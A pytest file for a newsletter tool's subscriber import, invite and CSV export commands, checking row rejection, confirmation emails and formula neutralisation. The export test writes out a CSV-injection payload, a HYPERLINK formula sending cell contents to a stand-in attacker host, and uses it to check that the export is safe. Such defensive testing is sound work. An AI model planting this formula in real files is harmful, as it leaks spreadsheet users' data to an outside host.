"""`broadsheet subscribers import` and `invite` run as a creator runs them: real processes.

Imported pending people used to be stuck: import sent nothing and no command
sent the confirmation later. A file with rejected rows exited 0, and a row with
an unclosed quote swallowed the rows after it into one mangled name.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import pytest
from sqlalchemy import select

from db.engine import Database
from db.models import Subscriber, SubscriberStatus
from tests.support.mail import link, messages
from tests.support.web_process import BROADSHEET, web_env


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    return web_env(tmp_path)


def broadsheet(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [BROADSHEET, *args], env=env, capture_output=True, text=True, timeout=120, check=False
    )


def people(env: dict[str, str]) -> dict[str, tuple[str | None, SubscriberStatus]]:
    db = Database.from_url(env["DATABASE_URL"])
    try:
        with db.session() as session:
            return {p.email: (p.name, p.status) for p in session.scalars(select(Subscriber))}
    finally:
        db.engine.dispose()


def outbox(env: dict[str, str]) -> list[str]:
    """The address of each email in the outbox."""
    return sorted(m["To"].addresses[0].addr_spec for m in messages(Path(env["OUTBOX_DIR"])))


def test_import_exits_1_and_names_each_rejected_row(env: dict[str, str], tmp_path: Path) -> None:
    source = tmp_path / "people.csv"
    source.write_text(
        "email,name\nava@example.org,Ava\nnot-an-address,Bo\nbea@example.org,Bea\n"
        "cy@example.org,Cy,,,,\nbroken@,Dee\n"
    )
    result = broadsheet(env, "subscribers", "import", str(source))
    assert result.returncode == 1
    assert "line 3: invalid email" in result.stderr
    assert "line 6: invalid email" in result.stderr
    assert "2 row(s) rejected" in result.stderr
    assert "Traceback" not in result.stderr
    assert sorted(people(env)) == ["ava@example.org", "bea@example.org", "cy@example.org"]
    as_json = broadsheet(env, "subscribers", "import", str(source), "--json")
    assert as_json.returncode == 1
    assert json.loads(as_json.stdout)["rejected"] == 2


def test_an_unclosed_quote_rejects_its_line_only(env: dict[str, str], tmp_path: Path) -> None:
    source = tmp_path / "people.csv"
    source.write_text(
        'email,name\nava@example.org,"Ava\nbea@example.org,Bea\ncy@example.org,"Cy, Jr"\n'
    )
    result = broadsheet(env, "subscribers", "import", str(source))
    assert result.returncode == 1
    assert "line 2: unreadable CSV: a quote opened on this line is not closed" in result.stderr
    assert people(env) == {
        "bea@example.org": ("Bea", SubscriberStatus.pending),
        "cy@example.org": ("Cy, Jr", SubscriberStatus.pending),
    }


def test_import_with_invite_sends_each_pending_person_one_confirmation(
    env: dict[str, str], tmp_path: Path
) -> None:
    source = tmp_path / "people.csv"
    source.write_text("email,name\nava@example.org,Ava\nbea@example.org,Bea\n")
    result = broadsheet(env, "subscribers", "import", str(source), "--invite")
    assert result.returncode == 0, result.stderr
    assert "2 invited" in result.stdout
    assert outbox(env) == ["ava@example.org", "bea@example.org"]
    again = broadsheet(env, "subscribers", "import", str(source), "--invite", "--json")
    assert json.loads(again.stdout)["invited"] == 0
    assert len(outbox(env)) == 2


def test_invite_sends_confirmations_to_imported_pending_people(
    env: dict[str, str], tmp_path: Path
) -> None:
    source = tmp_path / "people.csv"
    source.write_text(
        "email,lists\nava@example.org,videos\nbea@example.org,weekly\ncy@example.org,weekly\n"
    )
    assert broadsheet(env, "subscribers", "import", str(source)).returncode == 0
    assert outbox(env) == []  # importing alone mails nobody
    one = broadsheet(env, "subscribers", "invite", "--list", "weekly", "--limit", "1", "--json")
    assert one.returncode == 0, one.stderr
    assert json.loads(one.stdout) == {"invited": 1}
    assert outbox(env) == ["bea@example.org"]
    rest = broadsheet(env, "subscribers", "invite")
    assert rest.returncode == 0 and "2 confirmation email(s) queued" in rest.stdout
    assert outbox(env) == ["ava@example.org", "bea@example.org", "cy@example.org"]
    # Everyone got one this week: nothing more, unless asked for older than 0 days.
    assert json.loads(broadsheet(env, "subscribers", "invite", "--json").stdout)["invited"] == 0
    resend = broadsheet(env, "subscribers", "invite", "--older-than-days", "0", "--json")
    assert json.loads(resend.stdout)["invited"] == 3
    # The link in the email confirms (after the button's POST), as for a sign-up.
    mail = messages(Path(env["OUTBOX_DIR"]))[0]
    assert "/confirm/" in link(mail, "/confirm/")
    unknown = broadsheet(env, "subscribers", "invite", "--list", "podcasts")
    assert unknown.returncode == 1 and "unknown list(s): podcasts" in unknown.stderr


def test_the_export_neutralises_formulas_and_imports_back(
    env: dict[str, str], tmp_path: Path
) -> None:
    source = tmp_path / "people.csv"
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    rows = [
        ["email", "name"],
        ["ava@example.org", hostile],
        ["-dash@example.org", "+plus"],
        ["bea@example.org", "@at"],
        ["cy@example.org", "Cy = fine"],
    ]
    with source.open("w", newline="") as out:
        csv.writer(out).writerows(rows)
    assert broadsheet(env, "subscribers", "import", str(source)).returncode == 0
    exported = broadsheet(env, "subscribers", "export")
    assert exported.returncode == 0, exported.stderr
    cells = {r["email"]: r["name"] for r in csv.DictReader(io.StringIO(exported.stdout))}
    assert cells == {
        "ava@example.org": "'" + hostile,
        "'-dash@example.org": "'+plus",
        "bea@example.org": "'@at",
        "cy@example.org": "Cy = fine",
    }
    back = tmp_path / "export.csv"
    back.write_text(exported.stdout)
    again = broadsheet(env, "subscribers", "import", str(back), "--json")
    assert json.loads(again.stdout)["existing"] == 4
    assert people(env)["ava@example.org"][0] == hostile
